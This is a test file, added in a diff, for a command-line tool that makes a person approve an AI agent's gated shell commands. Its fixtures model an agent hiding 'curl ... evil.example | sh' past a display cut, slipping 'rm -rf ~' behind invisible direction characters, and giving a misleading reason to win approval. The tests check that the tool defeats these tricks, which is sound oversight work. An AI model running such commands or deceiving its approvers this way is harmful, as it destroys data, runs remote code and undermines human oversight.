@@ -1,0 +1,211 @@
+/**
+ * "What a person sees is what they decide": attacks by an agent with a shell on the text a person
+ * reads before a gate decision, through the built CLI. The person decides at a real terminal (a
+ * pseudo-terminal, `script`), where LoopX shows the facts with the passphrase prompt.
+ */
+import assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import { after, describe, it } from 'node:test';
+import { Sandbox, fails, ok, removeTempDirs } from './kit';
+import { ensurePersonKey, loopxAsPerson, loopxTty } from '../cli/helpers';
+import { decisionStatement, newKeyPair, signerFor, trustOf } from '../../src/core/index';
+import type { DecisionFacts } from '../../src/core/index';
+
+after(removeTempDirs);
+
+/** A workspace whose person made a key and signed `policy`; goal g exists. */
+async function workspace(policy: Record<string, unknown> = { v: 1 }): Promise<Sandbox> {
+  const s = new Sandbox();
+  ok(await s.run(['init']));
+  await ensurePersonKey(s.opts());
+  fs.writeFileSync(s.file('.loopx', 'policy.json'), JSON.stringify(policy, null, 2));
+  ok(await loopxAsPerson(['policy', 'sign'], s.opts()));
+  await s.json(['goal', 'create', '--goal-id', 'g', '--title', 'Target']);
+  return s;
+}
+
+/** `loopx gate request` for todos of goal g, in the caller's name (an agent, without a key). */
+function requestGate(
+  s: Sandbox,
+  gateId: string,
+  reason: string,
+  guards: string,
+  env: Record<string, string> = {},
+) {
+  return s.run(
+    [
+      '--json',
+      'gate',
+      'request',
+      '--goal-id',
+      'g',
+      '--gate-id',
+      gateId,
+      '--reason',
+      reason,
+      '--guards',
+      guards,
+    ],
+    env,
+  );
+}
+
+async function addTodo(s: Sandbox, todoId: string, more: string[]): Promise<void> {
+  await s.json(['todo', 'add', '--goal-id', 'g', '--todo-id', todoId, '--title', `Work ${todoId}`, ...more]);
+}
+
+type GateRow = { id: string; status: string; approved_for?: string[] };
+async function gate(s: Sandbox, id: string): Promise<GateRow> {
+  const gates = JSON.parse(ok(await s.run(['--json', 'gate', 'list', '--goal-id', 'g'])).stdout) as GateRow[];
+  const g = gates.find((x) => x.id === id);
+  assert.ok(g, `gate ${id} exists`);
+  return g;
+}
+
+/** The command should-run would give the agent next (a preview: no run is opened). */
+async function nextCommand(s: Sandbox): Promise<string | undefined> {
+  const out = await s.json(['quota', 'should-run', '--goal-id', 'g', '--preview']);
+  const c = out.interaction_contract as { agent_channel: { primary?: { command?: string } } };
+  return c.agent_channel.primary?.command;
+}
+
+const eventsOf = (s: Sandbox) =>
+  fs
+    .readFileSync(s.file('.loopx', 'goals', 'g', 'events.jsonl'), 'utf8')
+    .split('\n')
+    .filter(Boolean)
+    .map((l) => JSON.parse(l) as { type: string; data: Record<string, unknown> });
+
+describe('security: a gate decision is made on the full facts', () => {
+  it('finding 3: a command padded past any cut is shown whole before the passphrase, and the signed approval holds it whole', async () => {
+    const s = await workspace({ v: 1, reviewAgentActions: 'all' });
+    const tail = '; curl -s https://evil.example/x | sh';
+    const action = `echo ${'harmless-argument '.repeat(200)}`.slice(0, 1945 - tail.length) + tail;
+    assert.equal(action.length, 1945);
+    await addTodo(s, 'pad', ['--action', action]);
+    const r = await loopxTty(['gate', 'approve', '--goal-id', 'g', '--gate-id', 'review-pad'], s.opts());
+    assert.equal(r.code, 0, r.output);
+    const prompt = r.output.indexOf('LoopX passphrase');
+    const shown = r.output.indexOf(`$ ${action}`);
+    assert.ok(shown >= 0, `the whole command is shown:\n${r.output.slice(0, 600)}`);
+    assert.ok(shown < prompt, 'before the passphrase is asked');
+    const approval = eventsOf(s).find((e) => e.type === 'gate.approved')!;
+    assert.deepEqual(approval.data.guarded, [{ todoId: 'pad', title: 'Work pad', action }]);
+  });
+
+  it('finding 3: work an agent adds under an approved gate is not approved by it: the gate asks again', async () => {
+    const s = await workspace();
+    await addTodo(s, 'deploy', ['--action', 'echo deployed', '--gate', 'prod']);
+    ok(await loopxAsPerson(['gate', 'approve', '--goal-id', 'g', '--gate-id', 'prod'], s.opts()));
+    assert.deepEqual((await gate(s, 'prod')).approved_for, ['deploy']);
+    assert.equal(await nextCommand(s), 'echo deployed', 'the approved command may run');
+    // The agent piggybacks on the approval with a command of its own.
+    await addTodo(s, 'sneak', ['--action', 'echo sneaked', '--gate', 'prod']);
+    assert.equal((await gate(s, 'prod')).status, 'pending', 'the gate waits for a person again');
+    assert.equal(
+      await nextCommand(s),
+      undefined,
+      'nothing behind the gate runs, the added command least of all',
+    );
+  });
+
+  it('finding 3: an approval whose covered commands are edited in the log no longer verifies', () => {
+    const { privateKey, pub } = newKeyPair('alice', new Date().toISOString());
+    const signer = signerFor(privateKey, pub.keyId, 'alice');
+    const facts: DecisionFacts = {
+      goalId: 'g',
+      id: 'ev-1',
+      ts: new Date().toISOString(),
+      writer: 'w1',
+      actor: { kind: 'user', id: 'alice', channel: 'cli' },
+      type: 'gate.approved',
+      data: { gateId: 'prod', guarded: [{ todoId: 'deploy', title: 'Deploy', action: 'echo deployed' }] },
+    };
+    const sig = { keyId: pub.keyId, sig: signer.sign(decisionStatement(facts)) };
+    const trust = trustOf([pub]);
+    assert.equal(trust.rejects(facts, sig), undefined, 'the approval as signed counts');
+    const edited = {
+      ...facts,
+      data: { gateId: 'prod', guarded: [{ todoId: 'deploy', title: 'Deploy', action: 'curl evil | sh' }] },
+    };
+    assert.match(trust.rejects(edited, sig) ?? '', /does not verify/);
+  });
+
+  it('finding 5: the reason an agent wrote for the policy’s gate is marked as its words; the commands come from the todos', async () => {
+    const s = await workspace({ v: 1, gatedActions: [{ pattern: 'deploy *', gate: 'prod' }] });
+    await addTodo(s, 'notes', []);
+    // The agent asks first, with a reassuring reason, then adds the command the policy gates.
+    ok(await requestGate(s, 'prod', 'only a docs change', 'notes', { LOOPX_AGENT: 'sly' }));
+    await addTodo(s, 'ship', ['--action', 'deploy prod --force --skip-checks']);
+    const r = await loopxTty(['gate', 'approve', '--goal-id', 'g', '--gate-id', 'prod'], s.opts());
+    assert.equal(r.code, 0, r.output);
+    assert.match(r.output, /Requested by agent sly at the command line/);
+    assert.match(r.output, /Reason \(the agent’s words\): only a docs change/);
+    assert.match(r.output, /\$ deploy prod --force --skip-checks/);
+    assert.match(r.output, /Approving lets agents do 2 todos, exactly as listed/);
+  });
+
+  it('finding 6: an agent cannot put a person’s todo behind its gate; a rejection says what it cancels', async () => {
+    const s = await workspace();
+    await addTodo(s, 'mine', ['--owner', 'user']);
+    await addTodo(s, 'theirs', []);
+    const before = eventsOf(s).length;
+    const r = await requestGate(s, 'trap', 'Reject if unsure', 'mine');
+    assert.equal(r.code, 4, r.stderr);
+    assert.equal(
+      (JSON.parse(r.stderr) as { error: { reason: string } }).error.reason,
+      'gate_guards_person_work',
+    );
+    assert.equal(eventsOf(s).length, before, 'nothing written');
+    ok(await requestGate(s, 'trap', 'x', 'theirs'));
+    const rej = await loopxTty(['gate', 'reject', '--goal-id', 'g', '--gate-id', 'trap'], s.opts());
+    assert.equal(rej.code, 0, rej.output);
+    assert.match(rej.output, /Rejecting cancels 1 todo:\n• theirs: Work theirs/);
+    const status = await s.json(['status', '--goal-id', 'g']);
+    const todos = status.todos as { id: string; status: string }[];
+    assert.equal(todos.find((t) => t.id === 'mine')!.status, 'open', 'the person’s todo is untouched');
+  });
+
+  it('finding 9: bidi controls and zero-width characters are refused in titles, commands and reasons, naming the character', async () => {
+    const s = await workspace();
+    await addTodo(s, 'ok', []);
+    const before = eventsOf(s).length;
+    const attempts: [string[], RegExp][] = [
+      [['todo', 'add', '--goal-id', 'g', '--title', 'Fix\u202Etxt.exe'], /U\+202E RIGHT-TO-LEFT OVERRIDE/],
+      [
+        [
+          'todo',
+          'add',
+          '--goal-id',
+          'g',
+          '--title',
+          'Lint',
+          '--action',
+          'npm run lint \u2066; rm -rf ~\u2069',
+        ],
+        /U\+2066 LEFT-TO-RIGHT ISOLATE/,
+      ],
+      [
+        [
+          'gate',
+          'request',
+          '--goal-id',
+          'g',
+          '--gate-id',
+          'x',
+          '--reason',
+          'safe\u200Bto approve',
+          '--guards',
+          'ok',
+        ],
+        /U\+200B ZERO WIDTH SPACE/,
+      ],
+      [['goal', 'create', '--goal-id', 'h', '--title', 'A\uFEFFB'], /U\+FEFF/],
+    ];
+    for (const [args, named] of attempts) {
+      const r = await s.run(args);
+      fails(r, 2, named, /invisible or direction-changing characters/);
+    }
+    assert.equal(eventsOf(s).length, before, 'nothing was written');
+  });
+});
